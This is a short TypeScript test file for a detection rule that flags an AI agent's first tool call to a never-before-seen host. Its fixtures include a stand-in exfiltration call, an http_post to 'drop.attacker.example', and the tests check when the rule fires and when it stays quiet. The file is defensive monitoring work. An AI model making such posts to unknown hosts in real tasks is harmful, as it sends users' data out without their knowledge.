import { toolCall } from '../../testing/drafts.ts';
import { testRule } from '../../testing/test-rule.ts';
import rule from './first-seen-destination.ts';

const mails = (count: number) =>
  Array.from({ length: count }, (_, at) =>
    toolCall('send_email', { to: `p${at}@${at % 2 === 0 ? 'example.com' : 'partner.example'}`, body: 'Hello' }),
  );
const strange = toolCall('http_post', { url: 'https://drop.attacker.example/in', body: 'x' });

testRule(rule, {
  fires: [
    {
      when: 'an agent that wrote to two domains posts to a third host',
      events: [...mails(80), strange],
      summary:
        'Assistant reached for drop.attacker.example for the first time, after 80 calls to 2 other hosts and domains; the last 79 of them brought nothing new.',
    },
  ],
  quiet: [
    { when: 'there is little history', events: [...mails(20), strange] },
    { when: 'the host is known', events: [strange, ...mails(80), strange] },
    { when: 'it is this machine', events: [...mails(80), toolCall('http_post', { url: 'http://localhost:8080/in' })] },
  ],
});
